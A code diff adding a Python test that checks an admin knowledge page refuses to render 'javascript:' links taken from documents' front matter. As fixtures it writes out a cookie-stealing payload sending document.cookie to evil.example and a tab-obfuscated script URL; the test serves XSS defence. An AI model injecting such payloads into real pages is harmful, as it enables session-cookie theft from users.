@@ -159,6 +159,25 @@ async def test_why_redacts_the_question_as_support_ask_does(
     assert "4111" not in page and "refund [card]" in page
 
 
+async def test_a_documents_url_is_a_link_only_to_a_web_page(
+    rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path
+) -> None:
+    # `url:` front matter is anyone's with the folder: a javascript: one must not run on click
+    for name, url in (
+        ("evil", "javascript:fetch('https://evil.example/?c='+document.cookie)"),
+        ("tabbed", "java\tscript:alert(1)"),
+        ("site", "https://docs.example.com/export"),
+    ):
+        front = f"---\ntitle: Exporting {name}\nurl: {json.dumps(url)}\n---\n"
+        (knowledge_dir / f"{name}.md").write_text(front + f"# Exporting {name}\n\nPress Export.\n", "utf-8")
+    await rt.bot.knowledge.reindex()
+    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
+    for path in ("/admin/knowledge", "/admin/knowledge/why?q=exporting+evil+tabbed+site"):
+        page = await (await client.get(path)).text()
+        assert "script:" not in page, path
+        assert '<a href="https://docs.example.com/export">site.md</a>' in page, path
+
+
 async def test_the_knowledge_page_is_for_admins_and_its_change_needs_the_csrf_token(
     rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path
 ) -> None:
